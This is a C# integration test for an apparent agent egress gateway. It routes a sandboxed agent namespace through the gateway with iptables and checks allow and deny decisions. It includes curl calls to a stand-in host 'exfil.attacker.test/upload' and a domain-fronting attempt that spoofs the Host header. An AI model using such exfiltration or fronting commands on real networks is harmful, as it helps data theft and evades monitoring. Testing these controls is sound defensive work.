using System.Security.Cryptography.X509Certificates;
using Corral.Testing;

namespace Corral.Gateway.Tests;

/// <summary>
/// The transparent listener for real: an agent network namespace whose TCP traffic iptables REDIRECTs to the gateway,
/// and a stand-in "internet" namespace at 198.18.x.2 serving HTTP and HTTPS. Needs root, ip, iptables and python3
/// (for the server inside the namespace); where any is missing the test says so and returns.
/// </summary>
public sealed class TransparentNamespaceTests(ITestOutputHelper output)
{
    [Fact]
    public async Task Redirected_agent_traffic_is_decided_by_sni_and_host_and_denied_flows_reach_nothing()
    {
        NetworkNamespaces.SkipUnlessRootWith("ip", "iptables", "curl", "python3");
        var k = Random.Shared.Next(1, 250);
        var id = $"{Environment.ProcessId % 10000}{k}";
        var agentNs = $"crl-agent-{id}";
        var netNs = $"crl-net-{id}";
        var (vethAgentRoot, vethAgent, vethNetRoot, vethNet) = ($"cra{id}", $"crb{id}", $"crc{id}", $"crd{id}");
        var agentIp = $"10.213.{k}.2";
        var internet = $"198.18.{k}.2";
        using var folder = new TempFolder("corral-netns-");
        await using var topology = new NetworkNamespaces();
        await topology.AddAsync(agentNs);
        await topology.AddAsync(netNs);
        // Agent side: 10.213.k.2 in its namespace, default route to the root side (where the gateway is).
        await topology.LinkAsync(agentNs, vethAgentRoot, vethAgent, $"10.213.{k}.1/30", $"{agentIp}/30", defaultVia: $"10.213.{k}.1");
        // Stand-in internet: 198.18.k.2 in its own namespace (its loopback up: the readiness probe connects from inside).
        await topology.LinkAsync(netNs, vethNetRoot, vethNet, $"198.18.{k}.1/24", $"{internet}/24");

        // The server in the internet namespace: HTTPS on 443 and HTTP on 80, logging each request line it gets.
        using var cert = TestCertificates.SelfSigned("mcp.contoso.com", "exfil.attacker.test");
        folder.Write("cert.pem", cert.ExportCertificatePem());
        folder.Write("key.pem", cert.GetECDsaPrivateKey()!.ExportPkcs8PrivateKeyPem());
        var requestLog = folder.File("requests.log");
        topology.Start(netNs, "python3", folder.Write("server.py", ServerScript), internet, folder.Path, requestLog);

        await using var gw = GatewayHarness.Foundry($"{internet} mcp.contoso.com exfil.attacker.test www.example.test\n", transparent: true, agentSubnet: $"10.213.{k}.0/30");
        var port = gw.Server.TransparentEndPoint!.Port.ToString();
        await topology.AddRuleAsync("nat", "PREROUTING", "-i", vethAgentRoot, "-p", "tcp", "-j", "REDIRECT", "--to-ports", port);
        await WaitForServerAsync(netNs, internet);

        string[] Curl(params string[] args) => ["netns", "exec", agentNs, "curl", "-sk", "--connect-timeout", "20", "-m", "40", .. args];
        var permitted = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"mcp.contoso.com:443:{internet}", "https://mcp.contoso.com/tools/list"));
        var deniedTls = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"exfil.attacker.test:443:{internet}", "https://exfil.attacker.test/upload"));
        var deniedHttp = await ProcessRunner.RunAsync("ip", Curl("-i", "--resolve", $"www.example.test:80:{internet}", "http://www.example.test/"));
        var fronted = await ProcessRunner.RunAsync("ip", Curl("--resolve", $"exfil.attacker.test:443:{internet}", "-H", "Host: mcp.contoso.com", "https://exfil.attacker.test/"));
        output.WriteLine($"permitted: {permitted}\ndeniedTls: {deniedTls}\ndeniedHttp: {deniedHttp}");

        Assert.Equal(0, permitted.ExitCode);
        Assert.Contains("GET /tools/list", permitted.Stdout);
        Assert.NotEqual(0, deniedTls.ExitCode);
        Assert.Contains("403", deniedHttp.Stdout.Split('\n')[0]);
        Assert.Contains("X-Corral-Rule: default-deny-internet", deniedHttp.Stdout);
        Assert.NotEqual(0, fronted.ExitCode);
        var seen = File.Exists(requestLog) ? File.ReadAllText(requestLog) : "";
        Assert.Contains("/tools/list", seen);
        Assert.DoesNotContain("/upload", seen);
        Assert.DoesNotContain("www.example.test", seen);

        var (decision, close) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "mcp.contoso.com" && r.GetProperty("listener").GetString() == "transparent");
        Assert.Equal("allow-tool-calls", decision.GetProperty("rule").GetString());
        Assert.StartsWith($"{agentIp}:", decision.GetProperty("src").GetString());
        Assert.Equal($"{internet}:443", decision.GetProperty("dst").GetString());
        Assert.True(close.GetProperty("bytes_down").GetInt64() > 0);
        var (denied, _) = await gw.FlowAsync(r => r.GetProperty("host").GetString() == "exfil.attacker.test");
        Assert.Equal("default-deny-internet", denied.GetProperty("rule").GetString());
    }

    private static async Task WaitForServerAsync(string netNs, string address)
    {
        for (var i = 0; i < 100; i++)
        {
            if ((await NetworkNamespaces.ExecAsync(netNs, "python3", "-c", $"import socket; s=socket.create_connection(('{address}', 80), 1); s.close()")).ExitCode == 0) return;
            await Task.Delay(200);
        }
        throw new TimeoutException("the stand-in server in the namespace did not start");
    }

    private const string ServerScript = """
        import http.server, ssl, sys, threading
        address, folder, log = sys.argv[1], sys.argv[2], sys.argv[3]
        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            def do_GET(self):
                with open(log, "a") as f:
                    f.write(self.headers.get("Host", "") + " " + self.path + "\n")
                body = ("hello from the stand-in: GET " + self.path + "\n").encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            def log_message(self, *args):
                pass
        plain = http.server.ThreadingHTTPServer((address, 80), Handler)
        tls = http.server.ThreadingHTTPServer((address, 443), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(folder + "/cert.pem", folder + "/key.pem")
        tls.socket = context.wrap_socket(tls.socket, server_side=True)
        threading.Thread(target=plain.serve_forever, daemon=True).start()
        tls.serve_forever()
        """;
}
